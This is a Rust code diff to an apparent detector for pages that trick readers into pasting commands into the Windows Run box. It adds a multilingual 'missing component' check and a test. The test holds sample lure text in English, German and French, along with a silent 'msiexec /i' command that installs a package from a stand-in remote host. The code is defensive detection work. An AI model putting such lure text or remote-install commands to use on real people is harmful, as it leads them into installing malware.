@@ -1598,6 +1598,16 @@ impl PageHits {
     /// The story a lure tells around its command: a repair, a missing update, a file to open, an
     /// error, a system screen, or an infection on the reader's machine ("Trojan detected on this
     /// PC"; "an open-source malware scanner" names a product). Problems set aside are not told.
+    /// The page says something is missing ("the missing viewer component", „fehlende
+    /// Komponente“, « composant manquant »), in en de fr es/pt it nl pl.
+    fn names_missing(&self) -> bool {
+        [
+            "missing", "manquant", "fehlend", "falta", "mancant", "ontbrek", "brakuj",
+        ]
+        .iter()
+        .any(|w| has(&self.flat, w))
+    }
+
     fn story(&self) -> impl Iterator<Item = &Hit> {
         self.hits.iter().filter(|h| {
             let told = match h.cat {
@@ -2121,8 +2131,11 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && command.remote
         && !command.fetches_from_site(&page.site)
         && !command.fetches_from_owned(&page.site)
-        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
-        && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
+        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2; a
+        // kit's installs a component it says is missing, off a help address: thirty-eighth
+        // session.)
+        && (!command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
+            || page.names_missing() && !page.help)
         // (How it starts, and the sites it fetches from: a kit prints 32 bytes in tiny text.)
         && !(page.shows_head(&command) && command.https_sites.iter().all(|s| has(&page.flat, s)));
     let docs = install_like && !kept_off && page.documents_install(&command);
@@ -5124,5 +5137,41 @@ mod tests {
         let shown =
             "Press the Windows key, type cmd, then run: netsh winsock reset && ipconfig /flushdns";
         assert!(!judged("netsh winsock reset && ipconfig /flushdns", shown));
+    }
+
+    /// Session 38 (review 35 CX35-M5): a bare `msiexec /i https://…` kept off the page, from
+    /// another site, under Run-box steps, installing a component the page says is missing. An
+    /// IT page's hidden install command (review 35 CX35-H2) names nothing missing.
+    #[test]
+    fn a_missing_component_installed_by_a_bare_msiexec_kept_off_the_page() {
+        let clip = "msiexec /i https://dl.player-cdn.test/comp.msi /qn";
+        for text in [
+            "Install the missing media component. To finish, press Win + R, paste the command with Ctrl + V and press Enter.",
+            "Fehlende Anzeigekomponente installieren. Zum Abschluss drücken Sie Win + R, fügen den Befehl mit Strg + V ein und drücken Enter.",
+            "Installez le composant manquant du lecteur. Pour terminer, appuyez sur Windows + R, collez la commande avec Ctrl + V et appuyez sur Entrée.",
+        ] {
+            let s = snap_of("https://media-player-setup.site/", "Setup", text, clip);
+            assert!(reasons(&s).is_some(), "{text}");
+        }
+        let it = "Install the backup agent. Click Copy install command, then press Win + R, paste \
+                  with Ctrl + V and press Enter. The agent installs in the background.";
+        let agent = "msiexec /i https://deploy.backupvendor-cdn.example/agent/6.2/agent.msi /qn";
+        let s = snap_of("https://it.fenwick.example/kb/agent", "Agent", it, agent);
+        assert!(reasons(&s).is_none());
+        // Nor does one on a help address that does ("Teams add-in missing?"): read as before.
+        let it = format!("Teams add-in missing in Outlook? {it}");
+        let s = snap_of("https://it.fenwick.example/kb/addin", "Add-in", &it, agent);
+        assert!(reasons(&s).is_none());
+        // Shown, it is documentation, missing or not.
+        let shown = format!(
+            "If the backup agent is missing, install it: press Win + R, paste and press Enter. {agent} Copy"
+        );
+        let s = snap_of(
+            "https://it.fenwick.example/kb/agent",
+            "Agent",
+            &shown,
+            agent,
+        );
+        assert!(reasons(&s).is_none());
     }
 }
